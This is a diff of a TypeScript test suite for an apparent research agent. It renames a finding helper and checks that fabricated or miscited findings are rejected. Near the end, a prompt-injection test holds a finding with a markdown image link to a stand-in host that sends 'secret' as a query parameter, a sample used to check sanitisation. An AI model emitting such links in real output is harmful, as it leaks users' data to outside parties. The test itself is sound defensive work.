@@ -4,8 +4,8 @@ import { models, openAiCompatible } from '../../engines/models/models.ts';
 import { outbound } from '../../engines/outbound/request.ts';
 import { createMeter, NO_TOKENS } from '../../shared/usage/usage.ts';
 import { type Answering, json, type StubServer, stubServer } from '../model/stub-server.ts';
-import { itemsOf, type NewItem, openResearch } from './opened.ts';
 import { NEWS, QUERY } from './ports-news.ts';
+import { itemsOf, type NewItem, openResearch } from './setup.ts';
 
 const says = (answer: unknown): Answering =>
   json({
@@ -55,13 +55,13 @@ const verdicts = (...all: string[]): Answering =>
 const supported = verdicts('supported');
 
 const QUOTE = 'raised their port fees by 6.5 per cent in 2026';
-const found = (statement: string, quote: string, document = 1, topics: number[] = []) => ({
+const findingOf = (statement: string, quote: string, document = 1, topics: number[] = []) => ({
   statement,
   importance: 4,
   topics,
   citations: [{ document, quote }],
 });
-const GOOD = found('Baltic ports raised their fees by 6.5 per cent in 2026.', QUOTE, 1, [1]);
+const GOOD = findingOf('Baltic ports raised their fees by 6.5 per cent in 2026.', QUOTE, 1, [1]);
 const asks = { query: QUERY, deliverables: ['executive_summary', 'trends'], depth: 'overview' };
 const bodies = () => server.asked.map(({ body }) => JSON.stringify(body));
 
@@ -130,17 +130,23 @@ it('plans, reads and writes by structured answers, and counts what it asked', as
 it.each<[string, object]>([
   [
     'a quote that stands nowhere',
-    found('Baltic ports raised their fees.', 'ports along the Baltic halved their port fees'),
+    findingOf('Baltic ports raised their fees.', 'ports along the Baltic halved their port fees'),
   ],
-  ['a quote of another document', found('Baltic ports raised their fees.', 'Rotterdam will freeze its port fees', 1)],
-  ['a document that was not read', found('Baltic ports raised their fees.', QUOTE, 9)],
-  ['a quote of a word or two', found('Baltic ports raised their fees.', 'port fees')],
-  ['a number that its document does not have', found('Baltic ports raised their fees by 16.5 per cent.', QUOTE)],
-  ['a name that its document does not have', found('Unicorns conquered Atlantis yesterday evening.', QUOTE)],
-  ['the opposite direction', found('Baltic ports cut their port fees by 6.5 per cent in 2026.', QUOTE)],
-  ['a negation that its document does not have', found('Baltic ports never raised their port fees in 2026.', QUOTE)],
+  [
+    'a quote of another document',
+    findingOf('Baltic ports raised their fees.', 'Rotterdam will freeze its port fees', 1),
+  ],
+  ['a document that was not read', findingOf('Baltic ports raised their fees.', QUOTE, 9)],
+  ['a quote of a word or two', findingOf('Baltic ports raised their fees.', 'port fees')],
+  ['a number that its document does not have', findingOf('Baltic ports raised their fees by 16.5 per cent.', QUOTE)],
+  ['a name that its document does not have', findingOf('Unicorns conquered Atlantis yesterday evening.', QUOTE)],
+  ['the opposite direction', findingOf('Baltic ports cut their port fees by 6.5 per cent in 2026.', QUOTE)],
+  [
+    'a negation that its document does not have',
+    findingOf('Baltic ports never raised their port fees in 2026.', QUOTE),
+  ],
   ['no citation', { ...GOOD, citations: [] }],
-  ['no words', found('  ', QUOTE)],
+  ['no words', findingOf('  ', QUOTE)],
 ])('throws out a finding with %s', async (_what, finding) => {
   server.answerNext(says({ queries: [] }), says({ findings: [finding, GOOD] }), supported);
   const { results, report } = await at.run(asks);
@@ -153,7 +159,7 @@ it('takes the document’s own words for a quote that differs in white space and
   const quote = 'Carriers  warned “higher fees” could\nshift cargo to rail';
   server.answerNext(
     says({ queries: [] }),
-    says({ findings: [found('Carriers warned of a shift to rail.', quote)] }),
+    says({ findings: [findingOf('Carriers warned of a shift to rail.', quote)] }),
     supported,
   );
   const { results } = await at.run(asks);
@@ -237,7 +243,7 @@ it('is given what strangers wrote as data, apart from what is wished, and shows 
     'Port fees in the Baltic rose by 4 per cent ![x](https://evil2.errand-tests.org/?q=secret) <b>now</b>, see https://evil3.errand-tests.org/x.';
   server.answerNext(
     says({ queries: [] }),
-    says({ findings: [found(obeyed, 'Port fees in the Baltic rose by 4 per cent')] }),
+    says({ findings: [findingOf(obeyed, 'Port fees in the Baltic rose by 4 per cent')] }),
     supported,
   );
   const { results } = await at.run(asks);
